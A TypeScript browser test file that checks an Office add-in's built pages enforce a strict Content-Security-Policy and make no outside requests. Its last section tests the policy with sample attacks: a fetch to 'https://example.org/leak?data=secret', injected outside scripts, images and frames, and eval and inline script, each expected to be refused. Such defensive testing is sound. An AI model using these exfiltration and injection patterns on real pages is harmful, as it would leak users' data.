/**
 * Privacy of the built pages (dist/, `npm run build:dev`) in Chromium: each
 * page carries a Content-Security-Policy that admits our files, office.js
 * from Microsoft's CDN, Graph and sign-in and nothing else; the pages run
 * under it without a violation (office.js's outside-Office telemetry frame
 * aside, which the policy exists to refuse); and through load and a few
 * actions no request leaves 127.0.0.1.
 */
import {
  BrowserHarness,
  formatProblems,
  formatRequests,
  GuardedPage,
  requireBuiltPages,
  startBrowserHarness,
} from "../support/browser";

const PAGES = [
  "excel.html",
  "word.html",
  "auth.html",
  "commands.html",
  "help.html",
  "help.fr.html",
  "help.es.html",
] as const;
const SCRIPTED = PAGES.filter((page) => !page.startsWith("help"));

/** The Graph endpoint the test build was made with (webpack.config.js reads the same variable). */
const GRAPH_ORIGIN = new URL(process.env.GRAPH_ENDPOINT ?? "https://graph.microsoft.com/v1.0")
  .origin;
const SIGN_IN = "https://login.microsoftonline.com";
const OFFICE_CDN = "https://appsforoffice.microsoft.com";
/** The frame office.js adds 3 s after load when it finds no Office host (o15apptofilemappingtable.js). */
const TELEMETRY_FRAME = "https://telemetryservice.firstpartyapps.oaspapps.com";
/** Long enough for office.js's delayed work (its 3 s telemetry timer) to show. */
const OFFICE_JS_SETTLE_MS = 3500;

interface Violation {
  directive: string;
  blockedURI: string;
  sourceFile: string;
}

let harness: BrowserHarness | undefined;
const opened = new Map<string, { guarded: GuardedPage; policy: string | null }>();

/** Records every securitypolicyviolation from the first script on, into window.__csp. */
function recordViolations(): void {
  const found: unknown[] = [];
  (window as unknown as { __csp: unknown[] }).__csp = found;
  document.addEventListener("securitypolicyviolation", (event) =>
    found.push({
      directive: event.effectiveDirective,
      blockedURI: event.blockedURI,
      sourceFile: event.sourceFile,
    })
  );
}

function violations(guarded: GuardedPage): Promise<Violation[]> {
  return guarded.page.evaluate(() => (window as unknown as { __csp: Violation[] }).__csp ?? []);
}

function directives(policy: string): Map<string, string[]> {
  const map = new Map<string, string[]>();
  for (const part of policy.split(";")) {
    const [name, ...values] = part.trim().split(/\s+/);
    if (name) map.set(name, values);
  }
  return map;
}

function get(file: string): { guarded: GuardedPage; policy: string | null } {
  const result = opened.get(file);
  if (!result) throw new Error(`${file} did not load: see the beforeAll error above.`);
  return result;
}

beforeAll(async () => {
  requireBuiltPages([...PAGES]);
  harness = await startBrowserHarness();
  for (const file of PAGES) {
    const guarded = await harness.open(file);
    // Reload with the recorder in place, so violations during the first parse are seen too.
    await guarded.context.addInitScript(recordViolations);
    await guarded.page.reload({ waitUntil: "networkidle" });
    const policy = await guarded.page
      .locator('meta[http-equiv="Content-Security-Policy"]')
      .getAttribute("content", { timeout: 1000 })
      .catch(() => null);
    opened.set(file, { guarded, policy });
  }
  await new Promise((resolve) => setTimeout(resolve, OFFICE_JS_SETTLE_MS));
}, 90_000);

afterAll(async () => {
  await harness?.close();
});

describe.each(PAGES)("%s", (file) => {
  it("has a Content-Security-Policy without eval or outside scripts", () => {
    const { policy } = get(file);
    expect(policy).not.toBeNull();
    const csp = directives(policy ?? "");
    expect(csp.get("default-src")).toEqual(["'none'"]);
    expect(csp.get("object-src") ?? csp.get("default-src")).toEqual(["'none'"]);
    expect(policy).not.toContain("unsafe-eval");
    for (const [name, values] of csp) {
      for (const value of values) {
        expect({ directive: name, value }).not.toEqual({ directive: name, value: "*" });
        expect({ directive: name, value }).not.toEqual({ directive: name, value: "https:" });
      }
    }
    if (file.startsWith("help")) {
      // No script at all on the help page.
      expect(csp.get("script-src")).toBeUndefined();
      expect(csp.get("connect-src")).toBeUndefined();
    } else {
      expect(csp.get("script-src")).toEqual(["'self'", OFFICE_CDN]);
      expect(csp.get("connect-src")).toEqual(["'self'", GRAPH_ORIGIN, SIGN_IN]);
      expect(csp.get("frame-src")).toEqual([SIGN_IN]);
    }
  });

  it("runs with no policy violation but the refused telemetry frame", async () => {
    const { guarded } = get(file);
    const found = await violations(guarded);
    const unexpected = found.filter(
      (v) => !(v.directive === "frame-src" && v.blockedURI.startsWith(TELEMETRY_FRAME))
    );
    expect(unexpected).toEqual([]);
    // What Chromium logs of a violation; the console guard already lets the telemetry frame's refusal through (guards.ts).
    // Other console errors are the smoke and pane tests' business (the sign-in page, alone outside an Office dialog, has some).
    const logged = guarded.console.problems.filter((p) =>
      /Content Security Policy/i.test(p.message)
    );
    expect(formatProblems(logged)).toBe("");
  });

  it("sends no request away from 127.0.0.1", () => {
    const { guarded } = get(file);
    expect(formatRequests(guarded.network.leaving)).toBe("");
  });
});

describe("the telemetry frame office.js adds outside Office", () => {
  it.each(SCRIPTED.filter((f) => f !== "commands.html"))(
    "is refused by the browser in %s, before any request",
    async (file) => {
      const { guarded } = get(file);
      const found = await violations(guarded);
      expect(found.filter((v) => v.directive === "frame-src").map((v) => v.blockedURI)).toEqual([
        expect.stringMatching(new RegExp(`^${TELEMETRY_FRAME}`)),
      ]);
      expect(guarded.network.requests.filter((r) => r.url.startsWith(TELEMETRY_FRAME))).toEqual([]);
    }
  );
});

describe("the policy itself, in a pane, refuses", () => {
  let probe: GuardedPage | undefined;
  beforeAll(async () => {
    probe = await harness!.open("excel.html");
    await probe.context.addInitScript(recordViolations);
    await probe.page.reload({ waitUntil: "networkidle" });
  }, 30_000);

  const page = () => {
    if (!probe) throw new Error("excel.html did not open: see the beforeAll error above.");
    return probe;
  };

  it("a request to another host, before it is made", async () => {
    const outcome = await page().page.evaluate(() =>
      fetch("https://example.org/leak?data=secret").then(
        () => "sent",
        () => "refused"
      )
    );
    expect(outcome).toBe("refused");
    expect((await violations(page())).map((v) => [v.directive, v.blockedURI])).toContainEqual([
      "connect-src",
      "https://example.org/leak?data=secret",
    ]);
  });

  it("a script, an image or a frame from another host", async () => {
    await page().page.evaluate(() => {
      const script = document.createElement("script");
      script.src = "https://example.org/x.js";
      document.head.appendChild(script);
      const image = new Image();
      image.src = "https://example.org/pixel.png";
      document.body.appendChild(image);
      const frame = document.createElement("iframe");
      frame.src = "https://example.org/frame.html";
      document.body.appendChild(frame);
    });
    // Frame refusals are reported a moment after the element is added.
    await page().page.waitForFunction(() =>
      (window as unknown as { __csp: Violation[] }).__csp.some(
        (v) => v.directive === "frame-src" && v.blockedURI.startsWith("https://example.org")
      )
    );
    const directives = (await violations(page()))
      .filter((v) => v.blockedURI.startsWith("https://example.org"))
      .map((v) => v.directive);
    expect(directives).toEqual(expect.arrayContaining(["frame-src", "img-src", "script-src-elem"]));
  });

  it("eval and inline script in the page's own code", async () => {
    // A script of the page's own origin (what a compromised dependency would be) tries both.
    await page().context.route("**/probe.js", (route) =>
      route.fulfill({
        status: 200,
        contentType: "text/javascript",
        body: `
          try { window.__evalResult = String(eval("1 + 1")); }
          catch (error) { window.__evalResult = error instanceof EvalError ? "refused" : String(error); }
          const inline = document.createElement("script");
          inline.textContent = "window.__inlineRan = true";
          document.head.appendChild(inline);
          window.__probeDone = true;`,
      })
    );
    await page().page.evaluate(() => {
      const script = document.createElement("script");
      script.src = "probe.js";
      document.head.appendChild(script);
    });
    await page().page.waitForFunction(() => "__probeDone" in window);
    const outcome = await page().page.evaluate(() => {
      const w = window as unknown as { __evalResult?: string; __inlineRan?: boolean };
      return { eval: w.__evalResult, inline: w.__inlineRan === true };
    });
    expect(outcome).toEqual({ eval: "refused", inline: false });
  });

  it("all of it before any request left 127.0.0.1", () => {
    expect(formatRequests(page().network.leaving)).toBe("");
  });
});
